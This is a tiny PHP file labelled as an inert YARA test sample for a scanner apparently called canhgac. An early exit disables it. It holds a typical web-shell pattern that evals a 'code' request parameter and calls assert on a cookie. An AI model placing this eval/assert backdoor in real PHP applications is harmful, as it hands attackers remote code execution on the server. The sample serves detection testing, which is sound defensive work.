<?php exit('canhgac YARA test sample - inert'); ?>
<?php
// canhgac test sample: code evaluation of request input
if (!empty($_REQUEST['code'])) {
    eval(stripslashes($_REQUEST['code']));
}
@assert($_COOKIE['a']);
